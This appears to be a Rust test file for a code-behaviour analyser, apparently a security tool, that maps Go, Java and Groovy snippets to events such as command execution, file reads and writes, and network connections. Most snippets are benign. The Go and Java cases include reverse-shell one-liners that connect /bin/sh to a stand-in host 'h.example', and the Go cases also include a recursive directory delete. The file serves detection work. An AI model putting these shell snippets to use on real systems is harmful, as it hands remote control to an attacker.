//! Go, Java and Groovy.

use super::check;
use aegish_profiles::Lang;

#[test]
fn go_java_groovy() {
    check(
        Lang::Go,
        &[
            (
                "package main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"ls\", \"-l\").Run() }",
                &["argv ls|-l"],
            ),
            (
                "package main\nimport \"syscall\"\nfunc main(){\n\tsyscall.Exec(\"/bin/sh\", []string{\"/bin/sh\", \"-i\"}, []string{})\n}",
                &["argv /bin/sh|-i"],
            ),
            (
                "package main\nimport (\n\"fmt\"\n\"os\"\n)\nfunc main(){ b, _ := os.ReadFile(\"/etc/hosts\"); fmt.Print(string(b)) }",
                &["read /etc/hosts"],
            ),
            (
                "func main(){ f, _ := os.OpenFile(\"/tmp/x\", os.O_RDWR|os.O_CREATE, 0644)\n f.Write([]byte(\"DATA\")) }",
                &["write /tmp/x <- DATA"],
            ),
            (
                "func main(){c,_:=net.Dial(\"tcp\",\"h.example:99\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}",
                &["connect h.example 99", "argv /bin/sh", "attach"],
            ),
            ("func main(){ os.RemoveAll(\"/srv/x\") }", &["tree /srv/x"]),
            ("func main(){ fmt.Println(\"exec.Command\") }", &["print exec.Command\n"]),
        ],
    );
    check(
        Lang::Java,
        &[
            ("Runtime.getRuntime().exec(\"ls -l\");", &["argv ls|-l"]),
            ("new ProcessBuilder(\"sh\", \"-c\", \"id\").start();", &["argv sh|-c|id"]),
            (
                "Runtime r = Runtime.getRuntime(); Process p = r.exec(new String[]{\"sh\",\"-c\",\"id\"});",
                &["argv sh|-c|id"],
            ),
            ("String x = Files.readString(Path.of(\"/etc/hosts\"));", &["read /etc/hosts"]),
            (
                "Process p=new ProcessBuilder(\"sh\").redirectErrorStream(true).start();Socket s=new Socket(\"h.example\",99);InputStream si=s.getInputStream();OutputStream po=p.getOutputStream();po.write(si.read());",
                &["argv sh", "connect h.example 99", "attach"],
            ),
            ("System.out.println(\"Runtime.exec\");", &["print Runtime.exec\n"]),
        ],
    );
    check(
        Lang::Groovy,
        &[
            ("\"id\".execute()", &["argv id"]),
            ("println \"ls -l\".execute().text", &["argv ls|-l"]),
            ("['sh','-c','id'].execute()", &["argv sh|-c|id"]),
            ("def c = 'id'; \"${c} -u\".execute()", &["argv id|-u"]),
            ("println new File('/etc/hosts').getText()", &["read /etc/hosts"]),
            ("println 'execute'", &["print execute\n"]),
        ],
    );
}
